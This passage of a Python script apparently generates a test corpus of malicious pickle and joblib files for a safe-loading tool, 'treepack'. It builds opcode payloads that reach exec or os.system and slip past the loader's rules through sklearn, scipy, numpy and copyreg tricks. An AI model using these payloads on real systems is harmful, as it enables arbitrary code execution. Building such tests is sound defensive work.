        inst(SCORER, '_cached_call') + STOP
    attack('c5_proto0_inst', 5, PJ, 'marker', p0,
           "protocol 0: INST sklearn.metrics._scorer _cached_call (None, builtins, 'exec', code)")
    p1 = MARK + glob(SCORER, '_cached_call') + NONE + glob(CYTHON, '__builtins__') + \
        b'U\x04exec' + b'X' + struct.pack('<I', len(CODE)) + CODE.encode() + OBJ + STOP
    attack('c5_proto1_obj', 5, PJ, 'marker', p1,
           "protocol 1: OBJ with _cached_call as the class")
    # --trust=numpy.random: a dotted name walks out of the trusted module
    s = proto(4) + call(sglob('numpy.random', 'mtrand.__builtins__.exec'), CODE) + STOP
    attack('c5_trust_dotted_walk', 5, PJ, 'marker', s,
           "with --trust=numpy.random: STACK_GLOBAL numpy.random 'mtrand.__builtins__.exec'",
           opts='--trust=numpy.random')


def class6():
    """Beyond the issue's classes: ways to hide from the rules which object
    a BUILD or a joblib read applies to (found in review, not by the issue)."""
    k, n = 8, 64
    obj_dt = dtype('O8', (3, '|', None, None, None, -1, -1, 63))   # as numpy writes dtype('O')
    norm = glob('scipy.stats._continuous_distns', 'norm_gen') + EMPTY_TUPLE + NEWOBJ
    template = val({'_parse_arg_template': CODE})

    # numpy.core.multiarray.scalar(dtype('O'), x) returns x itself (numpy
    # multiarraymodule.c array_scalar, "In a best effort this returns the
    # original object"), and so does calling or NEWOBJ of numpy.object_: a
    # BUILD on the result is a BUILD on x, which the rules then do not see.
    def scalar_of(x):
        return call(glob('numpy.core.multiarray', 'scalar'), Raw(obj_dt), Raw(x))

    attack('c6_scalar_object_scipy_exec', 6, PJ, 'marker',
           proto(2) + scalar_of(norm) + template + BUILD + STOP,
           "scalar(dtype('O'), norm_gen.__new__()) is the generator itself: BUILD {'_parse_arg_template': code} exec()s")
    attack('c6_object_call_scipy_exec', 6, PJ, 'marker',
           proto(2) + call(glob('numpy', 'object_'), Raw(norm)) + template + BUILD + STOP,
           "numpy.object_(x) returns x: the same BUILD on a scipy generator")
    attack('c6_object_newobj_scipy_exec', 6, PJ, 'marker',
           proto(2) + glob('numpy', 'object_') + val((Raw(norm),)) + NEWOBJ + template + BUILD + STOP,
           "numpy.object_.__new__(numpy.object_, x) returns x (NEWOBJ)")
    # a class through scalar(): BUILD on it sets class attributes
    patch = scalar_of(glob(*WRAPPER)) + val((None, {'numpy_array_alignment_bytes': 16})) + BUILD + POP
    p = 200
    attack('c6_scalar_class_attr', 6, 'joblib', 'marker',
           proto(3) + patch + wrapper_newobj() + wrapper_state((k,), f8()) + BUILD +
           desync(n, 1 + p + n, os_system(), first=p) + STOP,
           "BUILD on scalar(dtype('O'), NumpyArrayWrapper), the class: its alignment attribute makes joblib read padding")
    # a wrapper through scalar(): joblib's isinstance() sees a wrapper
    attack('c6_scalar_wrapper', 6, 'joblib', 'marker',
           proto(3) + scalar_of(wrapper_newobj()) + wrapper_state((k,), f8()) + BUILD +
           desync(0, n, os_system()) + STOP,
           "scalar(dtype('O'), NumpyArrayWrapper.__new__()) + BUILD: joblib reads array data, treepack opcodes")

    # OBJ and INST call a function as REDUCE does (pickle.py _instantiate):
    # copyreg._reconstructor(cls, object, None) through them makes a cls,
    # which the rules for what cls's state may be did not follow.
    attack('c6_inst_reconstructor_scipy_exec', 6, PJ, 'marker',
           MARK + glob('scipy.stats._continuous_distns', 'norm_gen') + glob('builtins', 'object') + NONE +
           inst('copyreg', '_reconstructor') + EMPTY_DICT + MARK + binunicode('_parse_arg_template') +
           binunicode(CODE) + SETITEMS + BUILD + STOP,
           "INST copyreg _reconstructor (norm_gen, object, None), then BUILD {'_parse_arg_template': code}")
    attack('c6_obj_reconstructor_scipy_exec', 6, PJ, 'marker',
           MARK + glob('copyreg', '_reconstructor') + glob('scipy.stats._continuous_distns', 'norm_gen') +
           glob('builtins', 'object') + NONE + OBJ + EMPTY_DICT + MARK + binunicode('_parse_arg_template') +
           binunicode(CODE) + SETITEMS + BUILD + STOP,
           "OBJ copyreg._reconstructor(norm_gen, object, None), then the same BUILD")
    objw = MARK + glob('copyreg', '_reconstructor') + glob(*WRAPPER) + glob('builtins', 'object') + NONE + OBJ
    attack('c6_obj_reconstructor_wrapper', 6, 'joblib', 'marker',
           proto(2) + objw + wrapper_state((k,), f8()) + BUILD + desync(0, n, os_system()) + STOP,
           "OBJ copyreg._reconstructor(NumpyArrayWrapper, object, None): a wrapper to joblib, none to treepack")
    instw = MARK + glob(*WRAPPER) + glob('builtins', 'object') + NONE + inst('copyreg', '_reconstructor')
    attack('c6_inst_reconstructor_wrapper', 6, 'joblib', 'marker',
           proto(2) + instw + wrapper_state((k,), f8()) + BUILD + desync(0, n, os_system()) + STOP,
           "INST copyreg _reconstructor (NumpyArrayWrapper, object, None)")

    # numpy.dtype(dt, False, False) by NEWOBJ returns dt itself: a second
    # BUILD then gives a checked V16 dtype an item size of 24, after its
    # check and before joblib sizes the array with it.
    v16 = dtype('V16', (3, '|', None, None, None, 16, 1, 0)) + binput(1)
    alias = glob('numpy', 'dtype') + binget(1) + NEWFALSE + NEWFALSE + TUPLE3 + NEWOBJ + \
        val((3, '|', None, None, None, 24, 1, 0)) + BUILD + POP
    attack('c6_dtype_newobj_alias_elsize', 6, 'joblib', 'marker',
           proto(3) + v16 + POP + alias + wrapper_newobj() + wrapper_state((k,), Raw(binget(1))) + BUILD +
           desync(16 * k, 24 * k, os_system()) + STOP,
           "NEWOBJ numpy.dtype(dt, False, False) is dt: its BUILD makes the checked V16 dtype 24 bytes wide")


def main():
    if len(sys.argv) != 2:
        sys.exit('usage: make_attacks.py OUTDIR')
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    class1()
    class2()
    class3()
    class4()
    class5()
    class6()
    names = set()
    with open(os.path.join(out, 'attacks.tsv'), 'w') as m:
        m.write('name\tclass\tloaders\tpayload\tfile\ttreepack_options\tdescription\n')
        for name, cls, loaders, payload, data, desc, ext, opts in ATTACKS:
            assert name not in names, name
            names.add(name)
            fn = name + ext
            with open(os.path.join(out, fn), 'wb') as f:
                f.write(data)
            m.write('\t'.join([name, str(cls), loaders, payload, fn, opts, desc.replace('\t', ' ')]) + '\n')
    print('make_attacks: %d attacks in %s' % (len(ATTACKS), out))


if __name__ == '__main__':
    main()
